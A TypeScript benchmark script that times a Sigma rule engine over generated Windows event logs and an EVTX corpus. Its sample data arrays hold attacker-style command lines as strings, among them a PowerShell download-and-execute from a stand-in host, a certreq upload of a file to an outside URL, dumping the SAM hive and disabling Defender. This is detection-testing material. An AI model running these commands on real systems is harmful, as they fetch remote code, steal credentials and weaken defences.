/**
 * Sigma engine throughput: SigmaHQ's whole rules/windows set (plus the built-in rules) on one core,
 *  1. over a large generated stream of WinEvents held in memory (a realistic Sysmon/Security/PowerShell mix),
 *     so only the engine is timed;
 *  2. over the EVTX corpus decoded by src/formats (decode alone, then decode + match).
 * Run: node --import tsx bench/sigma.bench.ts [events]   (default 300000)
 */
import { readdirSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { loadRules } from '../src/rules/index.js';
import { compileEngine } from '../src/engine/index.js';
import { decodeFile } from '../src/formats/index.js';
import type { WinEvent } from '../src/model/event.js';
import { SECURITY_CHANNEL, SECURITY_PROVIDER, SYSMON_CHANNEL, SYSMON_PROVIDER } from '../src/model/event.js';
import { SHARED, fmt } from './lib.js';

const EVENTS = Number(process.argv[2] ?? 300_000);

// ---- a deterministic, realistic event mix --------------------------------------------------------------

let seed = 42;
const random = (): number => {
  seed = (seed * 1103515245 + 12345) & 0x7fffffff;
  return seed / 0x7fffffff;
};
const pick = <T>(xs: readonly T[]): T => xs[Math.floor(random() * xs.length)]!;

const IMAGES = [
  'C:\\Windows\\System32\\svchost.exe', 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', 'C:\\Windows\\explorer.exe',
  'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'C:\\Windows\\System32\\cmd.exe', 'C:\\Windows\\System32\\conhost.exe',
  'C:\\Windows\\System32\\rundll32.exe', 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE', 'C:\\Windows\\System32\\taskhostw.exe',
  'C:\\Windows\\System32\\backgroundTaskHost.exe', 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe', 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe',
  'C:\\Windows\\System32\\SearchProtocolHost.exe', 'C:\\Users\\alice\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe', 'C:\\Windows\\System32\\certreq.exe',
  'C:\\Windows\\System32\\reg.exe', 'C:\\Windows\\System32\\schtasks.exe', 'C:\\Windows\\System32\\msiexec.exe', 'C:\\Windows\\System32\\dllhost.exe',
];
const COMMANDS: Record<string, string[]> = {
  'svchost.exe': ['C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule', 'C:\\Windows\\System32\\svchost.exe -k LocalServiceNetworkRestricted -p'],
  'chrome.exe': ['"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US --renderer-client-id=7 --launch-time-ticks=123456'],
  'powershell.exe': ['powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\ProgramData\\agent\\health.ps1', 'powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA'],
  'cmd.exe': ['C:\\Windows\\system32\\cmd.exe /c "C:\\ProgramData\\backup\\run.bat"', 'cmd.exe /c whoami /all', 'cmd /c ping -n 1 10.0.0.1'],
  'rundll32.exe': ['C:\\Windows\\system32\\rundll32.exe C:\\Windows\\System32\\shell32.dll,Control_RunDLL', 'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication"'],
  'certreq.exe': ['certreq -Post -config https://example.org/ c:\\windows\\win.ini out.txt', 'certreq -enroll -machine -policyserver * Machine'],
  'reg.exe': ['reg query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', 'reg save HKLM\\SAM C:\\Users\\Public\\sam.save'],
  'schtasks.exe': ['schtasks /create /tn Updater /tr C:\\Users\\Public\\u.exe /sc onlogon', 'schtasks /query /fo LIST'],
  other: ['"%IMAGE%"', '"%IMAGE%" /background', '"%IMAGE%" --update --silent'],
};
const USERS = ['CORP\\alice', 'CORP\\bob', 'NT AUTHORITY\\SYSTEM', 'NT AUTHORITY\\LOCAL SERVICE', 'CORP\\svc_backup'];
const DLLS = ['C:\\Windows\\System32\\kernel32.dll', 'C:\\Windows\\System32\\ntdll.dll', 'C:\\Windows\\System32\\wininet.dll', 'C:\\Windows\\System32\\dbghelp.dll',
  'C:\\Windows\\System32\\amsi.dll', 'C:\\Windows\\System32\\clr.dll', 'C:\\Users\\alice\\AppData\\Local\\Temp\\x\\version.dll'];
const FILES = ['C:\\Users\\alice\\Downloads\\invoice.pdf', 'C:\\Users\\alice\\AppData\\Local\\Temp\\tmp1234.tmp', 'C:\\Windows\\Prefetch\\CHROME.EXE-1234.pf',
  'C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\evil.lnk', 'C:\\Users\\Public\\payload.ps1'];
const KEYS = ['HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater', 'HKU\\S-1-5-21-1\\Software\\Microsoft\\Office\\16.0\\Common\\Roaming',
  'HKLM\\SYSTEM\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\S-1-5-21-1\\x', 'HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware'];
const DOMAINS = ['www.google.com', 'login.microsoftonline.com', 'pastebin.com', 'raw.githubusercontent.com', 'ocsp.digicert.com', 'api.ngrok.io'];
const SCRIPTS = ['Get-ChildItem C:\\Users -Recurse | Out-Null', 'IEX (New-Object Net.WebClient).DownloadString("http://x/a.ps1")', 'Set-MpPreference -DisableRealtimeMonitoring $true',
  'Import-Module ActiveDirectory; Get-ADUser -Filter *'];

const base = (name: string): string => name.slice(name.lastIndexOf('\\') + 1);
let rec = 0;
let clock = Date.UTC(2024, 4, 1);

function system(provider: string, channel: string, eventId: number): WinEvent['system'] {
  clock += 7;
  return { provider, channel, eventId, computer: 'WS01.corp.example', timeCreated: new Date(clock).toISOString(), recordId: ++rec };
}

function processCreate(): WinEvent {
  const image = pick(IMAGES);
  const parent = pick(IMAGES);
  const cmds = COMMANDS[base(image)] ?? COMMANDS.other!;
  const cmd = pick(cmds).replace('%IMAGE%', image);
  return {
    system: system(SYSMON_PROVIDER, SYSMON_CHANNEL, 1),
    data: {
      RuleName: '-', UtcTime: '2024-05-01 10:00:00.000', ProcessGuid: '{5770385f-c22a-43e0-bf4c-06f5698ffbd9}', ProcessId: 1000 + rec % 5000, Image: image,
      FileVersion: '10.0.19041.1', Description: base(image), Product: 'Microsoft® Windows® Operating System', Company: 'Microsoft Corporation',
      OriginalFileName: base(image).toUpperCase(), CommandLine: cmd, CurrentDirectory: 'C:\\Windows\\system32\\', User: pick(USERS),
      LogonGuid: '{5770385f-0000-0000-0000-000000000000}', LogonId: '0x3e7', TerminalSessionId: 1, IntegrityLevel: pick(['Medium', 'High', 'System']),
      Hashes: 'SHA256=0C90A42A6BE0078726279708539FF3275A40031BCCC6D31FCF77D0A03B6F6BBB,IMPHASH=6A91EB82BFD19D2706C7D43C46F7064E',
      ParentProcessGuid: '{5770385f-c22a-43e0-bf4c-000000000001}', ParentProcessId: 900, ParentImage: parent, ParentCommandLine: `"${parent}"`, ParentUser: pick(USERS),
    },
    origin: { file: 'generated' },
  };
}

function security4688(): WinEvent {
  const image = pick(IMAGES);
  const cmds = COMMANDS[base(image)] ?? COMMANDS.other!;
  return {
    system: system(SECURITY_PROVIDER, SECURITY_CHANNEL, 4688),
    data: {
      SubjectUserSid: 'S-1-5-18', SubjectUserName: 'WS01$', SubjectDomainName: 'CORP', SubjectLogonId: '0x3e7', NewProcessId: '0x1a2c', NewProcessName: image,
      TokenElevationType: '%%1936', ProcessId: '0x10f0', CommandLine: pick(cmds).replace('%IMAGE%', image), TargetUserSid: 'S-1-0-0', TargetUserName: '-',
      TargetDomainName: '-', TargetLogonId: '0x0', ParentProcessName: pick(IMAGES), MandatoryLabel: 'S-1-16-12288',
    },
    origin: { file: 'generated' },
  };
}

function sysmonOther(): WinEvent {
  const image = pick(IMAGES);
  const common = { RuleName: '-', UtcTime: '2024-05-01 10:00:00.000', ProcessGuid: '{5770385f-c22a-43e0-bf4c-06f5698ffbd9}', ProcessId: 4242, Image: image, User: pick(USERS) };
  const r = random();
  if (r < 0.3) return { system: system(SYSMON_PROVIDER, SYSMON_CHANNEL, 7), data: { ...common, ImageLoaded: pick(DLLS), OriginalFileName: base(pick(DLLS)), Signed: 'true', Signature: 'Microsoft Windows', SignatureStatus: 'Valid', Hashes: 'SHA256=00' }, origin: { file: 'generated' } };
  if (r < 0.5) return { system: system(SYSMON_PROVIDER, SYSMON_CHANNEL, 3), data: { ...common, Protocol: 'tcp', Initiated: 'true', SourceIp: '10.0.0.5', SourcePort: 49832, DestinationIp: pick(['10.0.0.1', '52.96.1.2', '185.199.108.133']), DestinationHostname: pick(DOMAINS), DestinationPort: pick([443, 80, 445, 3389]) }, origin: { file: 'generated' } };
  if (r < 0.7) return { system: system(SYSMON_PROVIDER, SYSMON_CHANNEL, 11), data: { ...common, TargetFilename: pick(FILES), CreationUtcTime: '2024-05-01 10:00:00.000' }, origin: { file: 'generated' } };
  if (r < 0.9) return { system: system(SYSMON_PROVIDER, SYSMON_CHANNEL, 13), data: { ...common, EventType: 'SetValue', TargetObject: pick(KEYS), Details: pick(['DWORD (0x00000001)', 'C:\\Users\\Public\\u.exe', 'Binary Data']) }, origin: { file: 'generated' } };
  return { system: system(SYSMON_PROVIDER, SYSMON_CHANNEL, 22), data: { ...common, QueryName: pick(DOMAINS), QueryStatus: '0', QueryResults: '::ffff:10.0.0.1;' }, origin: { file: 'generated' } };
}

function otherEvent(): WinEvent {
  const r = random();
  if (r < 0.6)
    return { system: system(SECURITY_PROVIDER, SECURITY_CHANNEL, pick([4624, 4625, 4634, 4672])), data: { TargetUserName: pick(['alice', 'bob', 'WS01$']), TargetDomainName: 'CORP', LogonType: pick(['2', '3', '10']), IpAddress: '10.0.0.7', WorkstationName: 'WS02', LogonProcessName: 'NtLmSsp', AuthenticationPackageName: 'NTLM' }, origin: { file: 'generated' } };
  return { system: system('Microsoft-Windows-PowerShell', 'Microsoft-Windows-PowerShell/Operational', 4104), data: { MessageNumber: 1, MessageTotal: 1, ScriptBlockText: pick(SCRIPTS), ScriptBlockId: '{0}', Path: '' }, origin: { file: 'generated' } };
}

export function generate(n: number): WinEvent[] {
  const out: WinEvent[] = [];
  for (let i = 0; i < n; i++) {
    const r = random();
    out.push(r < 0.35 ? processCreate() : r < 0.4 ? security4688() : r < 0.85 ? sysmonOther() : otherEvent());
  }
  return out;
}

// ---- measurements ---------------------------------------------------------------------------------------

function evtxFiles(dir: string, out: string[] = []): string[] {
  for (const name of readdirSync(dir).sort()) {
    const full = join(dir, name);
    if (statSync(full).isDirectory()) evtxFiles(full, out);
    else if (name.endsWith('.evtx')) out.push(full);
  }
  return out;
}

async function main(): Promise<void> {
  let t = performance.now();
  const loaded = await loadRules({ paths: [join(SHARED, 'sigma', 'rules', 'windows')] });
  const loadMs = performance.now() - t;
  t = performance.now();
  const engine = compileEngine(loaded.rules);
  const compileMs = performance.now() - t;
  console.log(`rules: ${loaded.rules.length} loaded (${loaded.errors.length} rejected) in ${fmt(loadMs / 1000, 2)} s, compiled in ${fmt(compileMs / 1000, 2)} s; ${engine.warnings.length} warnings`);

  const events = generate(EVENTS);
  // Warm-up: builds the routing buckets and lets the JIT settle.
  for (let i = 0; i < Math.min(20000, events.length); i++) engine.match(events[i]!);
  const before = engine.stats();
  // Best of three passes; CPU time (user + system of this process) is reported beside wall time because the
  // development machine is shared: CPU seconds are what one core spends, whatever else runs.
  let best = { wall: Infinity, cpu: Infinity };
  let detections = 0;
  for (let pass = 0; pass < 3; pass++) {
    globalThis.gc?.();
    const cpu0 = process.cpuUsage();
    t = performance.now();
    detections = 0;
    for (const ev of events) detections += engine.match(ev).length;
    const wall = (performance.now() - t) / 1000;
    const cpu = process.cpuUsage(cpu0);
    best = { wall: Math.min(best.wall, wall), cpu: Math.min(best.cpu, (cpu.user + cpu.system) / 1e6) };
  }
  const after = engine.stats();
  const evaluated = (after.evaluated - before.evaluated) / (3 * events.length);
  console.log(
    `generated stream: ${fmt(events.length, 0)} events: ${fmt(events.length / best.wall, 0)} events/s wall, ${fmt(events.length / best.cpu, 0)} events/s per CPU-second (one thread) ` +
      `(${fmt(detections, 0)} detections; ${fmt(evaluated, 1)} rule evaluations per event after routing + prefilter, of ${after.instances} rule instances)`,
  );

  const files = evtxFiles(join(SHARED, 'evtx'));
  if (files.length === 0) return;
  let decodeEvents = 0;
  let decodeErrors = 0;
  t = performance.now();
  for (const f of files) for await (const item of decodeFile({ path: f })) 'event' in item ? decodeEvents++ : decodeErrors++;
  const decodeSec = (performance.now() - t) / 1000;
  if (decodeEvents === 0) {
    console.log(`EVTX corpus: the decoder produced no events (${decodeErrors} errors) — skipped`);
    return;
  }
  t = performance.now();
  let evtxDetections = 0;
  let matchSec = 0;
  for (const f of files)
    for await (const item of decodeFile({ path: f })) {
      if (!('event' in item)) continue;
      const m0 = performance.now();
      evtxDetections += engine.match(item.event).length;
      matchSec += (performance.now() - m0) / 1000;
    }
  const totalSec = (performance.now() - t) / 1000;
  console.log(
    `EVTX corpus (${files.length} files, ${fmt(decodeEvents, 0)} events, ${decodeErrors} decode errors): decode only ${fmt(decodeEvents / decodeSec, 0)} events/s; ` +
      `decode + all rules ${fmt(decodeEvents / totalSec, 0)} events/s; engine alone ${fmt(decodeEvents / matchSec, 0)} events/s; ${fmt(evtxDetections, 0)} detections`,
  );
  console.log('(timings on a shared 2-core machine are noisy; the engine figure is single-threaded)');
}

// Run when executed (the generator is also imported by ad-hoc profiling scripts).
if (process.argv[1]?.endsWith('sigma.bench.ts')) await main();
